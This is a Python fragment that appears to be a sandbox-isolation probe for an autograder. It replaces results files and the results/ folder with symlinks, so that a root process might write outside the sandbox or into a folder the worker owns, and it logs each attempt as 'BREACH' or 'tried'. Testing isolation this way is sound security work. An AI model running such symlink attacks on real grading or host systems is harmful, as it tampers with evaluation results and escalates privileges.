"""Plants a symlink at results/results.json (and results/) pointing outside, hoping root writes through it."""
_TARGET = _os.path.join(MARKERS, "symlink-target")
try:
    with open(_TARGET, "w") as _out:
        _out.write("untouched\n")
    _os.chmod(_TARGET, 0o666)
except OSError as _exc:   # the worker may write nowhere but its scratch folder
    _mark("tried-symlink-target", str(_exc))

for _path in _results_paths():
    try:
        if _os.path.lexists(_path):
            _os.unlink(_path)
        _os.symlink(_TARGET, _path)
        _mark("BREACH-planted-results-symlink", f"{_path} -> {_TARGET}")
    except OSError as _exc:
        _mark("tried-results-symlink", f"{_path}: {_exc}")
_root = _autograder_root()
if _root:
    try:   # swap the whole results/ folder for a link to a folder this user owns
        _os.rename(_os.path.join(_root, "results"), _os.path.join(MARKERS, "stolen-results"))
        _os.symlink(MARKERS, _os.path.join(_root, "results"))
        _mark("BREACH-replaced-results-folder", _root)
    except OSError as _exc:
        _mark("tried-replace-results-folder", str(_exc))
